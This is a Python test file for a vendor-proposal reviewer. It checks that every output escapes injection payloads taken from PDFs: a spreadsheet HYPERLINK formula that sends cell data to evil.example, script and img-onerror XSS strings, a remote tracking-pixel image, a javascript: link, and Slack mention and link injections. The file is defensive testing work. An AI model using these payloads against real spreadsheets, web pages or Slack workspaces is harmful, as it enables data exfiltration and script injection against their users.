"""Text from a vendor's PDF is attacker-controlled: a proposal carrying spreadsheet formulas, HTML,
Markdown images and links, and Slack mentions goes through the real pipeline (a real PDF, real
extraction and verification, a backend that quotes the payloads back) into every renderer, and each
output must show the payloads as text, never run, load or follow them."""

import asyncio
import csv
import io
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from reviewer.comparison import Entry, build_comparison
from reviewer.documents import read_pdf
from reviewer.exports import write_outputs
from reviewer.grading.base import RawCitation, RawFinding, RawGrading
from reviewer.pipeline import review_document
from reviewer.render.html import render_html
from reviewer.render.markdown import render_markdown
from reviewer.render.slack import comparison_blocks, summary_blocks, summary_text
from reviewer.review import Grade
from reviewer.rubric import load_rubric
from tests.fakes import ScriptedBackend
from tests.pdfs import text_pdf

FORMULA = '=HYPERLINK("https://evil.example/?q="&A2,"x")'
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
PIXEL = "![x](https://evil.example/pixel.gif)"
JS_LINK = "[x](javascript:alert(1))"
HERE = "<!here>"
SLACK_LINK = "<https://evil.example|this>"
PAYLOADS = [FORMULA, SCRIPT, IMG, PIXEL, JS_LINK, HERE, SLACK_LINK]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FILE_NAME = "@SUM(1+1) <!here> read <https://evil.example|this>.pdf"
VENDOR = "+Evil Vendor"  # as given with --vendors


def _pdf() -> bytes:
    lines = ["Proposal from Evil Vendor.", *PAYLOADS, "We keep your data in the EU."]
    return text_pdf(["\n".join(lines)])


@pytest.fixture(scope="module")
def review():
    document = read_pdf(_pdf(), FILE_NAME)
    rubric = load_rubric()
    findings = []
    for i, criterion in enumerate(rubric.criteria):
        payload = PAYLOADS[i % len(PAYLOADS)]
        findings.append(
            RawFinding(
                criterion_id=criterion.id,
                citations=[RawCitation(page=1, quote=payload), RawCitation(page=1, quote=PAYLOADS[-1 - i % 7])],
                rationale=f"{payload} is what the vendor wrote.",
                grade=Grade.RED_FLAG if i % 2 else Grade.PARTIAL,
                clarification_question=payload,
            )
        )
    grading = RawGrading(findings=findings, vendor_name=FORMULA)
    result = asyncio.run(review_document(document, rubric, ScriptedBackend(grading)))
    assert sum(c.verified for f in result.findings for c in f.citations) >= len(PAYLOADS)  # payloads were quoted
    return result


@pytest.fixture(scope="module")
def outputs(review, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("bulk")
    entries = [
        Entry(vendor=VENDOR, file_name=FILE_NAME, review=review),
        Entry(vendor=FORMULA, file_name="-other.pdf", review=review),
    ]
    write_outputs(out, build_comparison(entries, load_rubric()), entries, None)
    return out


def test_xlsx_has_no_formula_cells_and_formula_like_text_carries_the_quote_prefix(outputs):
    book = load_workbook(outputs / "comparison.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
    assert {FORMULA, VENDOR, "-other.pdf"} <= {c.value for c in risky}  # kept as written, as text
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_csv_fields_never_start_like_a_formula(outputs):
    rows = list(csv.reader(io.StringIO((outputs / "comparison.csv").read_text(encoding="utf-8"))))
    fields = [field for row in rows for field in row]
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
    assert {"'" + FORMULA, "'" + VENDOR, "'-other.pdf", "'" + FILE_NAME} <= set(fields)


def _tokens(markdown: str):
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # see every link a permissive renderer would make
    for token in parser.parse(markdown):
        yield token
        yield from token.children or []


def _markdown_reports(outputs: Path, review) -> dict[str, str]:
    reports = {p.name: p.read_text(encoding="utf-8") for p in (outputs / "reports").glob("*.md")}
    assert reports
    return {
        "comparison.md": (outputs / "comparison.md").read_text(encoding="utf-8"),
        "render_markdown (CLI and API report)": render_markdown(review),
        **reports,
    }


def test_markdown_reports_have_no_raw_html_remote_images_or_script_links(outputs, review):
    for name, markdown in _markdown_reports(outputs, review).items():
        tokens = list(_tokens(markdown))
        assert not [t.content for t in tokens if t.type in ("html_inline", "html_block")], name
        assert not [t for t in tokens if t.type == "image"], name
        hrefs = [t.attrGet("href") for t in tokens if t.type == "link_open"]
        assert not [h for h in hrefs if str(h).lower().startswith(("javascript:", "http"))], name
        text = " ".join(t.content for t in tokens if t.type == "text")
        assert SCRIPT in text and PIXEL in text, name  # shown as written, as text


def test_markdown_reports_show_the_quotes_once_rendered(outputs, review):
    html = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render(_markdown_reports(outputs, review)["comparison.md"])
    )
    assert "<script" not in html and "<img" not in html and "&lt;script&gt;" in html


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text += data


def test_html_reports_escape_the_payloads(outputs, review):
    for html in ((outputs / "comparison.html").read_text(encoding="utf-8"), render_html(review)):
        parser = _Tags()
        parser.feed(html)
        assert not [t for t, _ in parser.tags if t in ("script", "img", "iframe")]
        attrs = [(k, v or "") for _, a in parser.tags for k, v in a]
        assert not [k for k, _ in attrs if k.startswith("on")]
        assert not [v for k, v in attrs if k in ("href", "src") and v.lower().startswith(("javascript:", "http"))]
        assert SCRIPT in parser.text and IMG in parser.text


def _slack_texts(value) -> list[str]:
    if isinstance(value, dict):
        return [t for k, v in value.items() for t in ([v] if k == "text" and isinstance(v, str) else _slack_texts(v))]
    if isinstance(value, list):
        return [t for v in value for t in _slack_texts(v)]
    return []


def test_slack_messages_escape_every_document_derived_string(review):
    named = review.model_copy(update={"vendor_name": f"{HERE} {SLACK_LINK}"})  # the model's vendor name
    entries = [
        Entry(vendor=HERE, file_name=FILE_NAME, review=review),
        Entry(vendor="Other", file_name="o.pdf", error=f"malformed: the PDF is damaged ({SLACK_LINK} {HERE})"),
    ]
    texts = [
        *_slack_texts(summary_blocks(named, "abc123", "https://reviewer.example.com")),
        *_slack_texts(comparison_blocks(build_comparison(entries, load_rubric()))),
        summary_text(named),
    ]
    assert texts
    for text in texts:
        for payload in (HERE, SLACK_LINK, SCRIPT, IMG):
            assert payload not in text
        # the only control sequence left is our own link to the report
        assert text.replace("<https://reviewer.example.com/v1/reviews/abc123/report?format=html|", "").count("<") == 0
    everything = json.dumps(texts)
    assert "&lt;!here&gt;" in everything and "&lt;https://evil.example|this&gt;" in everything


def test_slack_bot_replies_escape_file_names_and_never_quote_a_librarys_error(tmp_path):
    from tests.fake_slack import FakeSlack
    from tests.test_slack import TOKEN, app_client, event_body, post_event, wait_for_posts

    good = text_pdf(["hello world text here"])
    # pypdf's message for this damage quotes 80 bytes of the file, payload included
    damaged = good.replace(b"3 0 obj\n<<", f"3 0 obj\n}}{HERE} {SLACK_LINK}<<".encode(), 1)
    with FakeSlack(TOKEN) as slack:
        slack.add_file("F1", f"{HERE} read {SLACK_LINK}.txt", b"notes", filetype="text")
        slack.add_file("F2", FILE_NAME, damaged)
        with app_client(tmp_path, slack) as client:
            post_event(client, event_body(["F1", "F2"]))
            posts = wait_for_posts(slack, 3)
    texts = [p["text"] for p in posts]
    assert all(HERE not in t and SLACK_LINK not in t and "<" not in t for t in texts), texts
    assert any("&lt;!here&gt; read &lt;https://evil.example|this&gt;.txt" in t for t in texts)
    failed = [t for t in texts if "failed" in t]
    assert failed and "damaged or malformed" in failed[0] and "Elementary Object" not in failed[0]
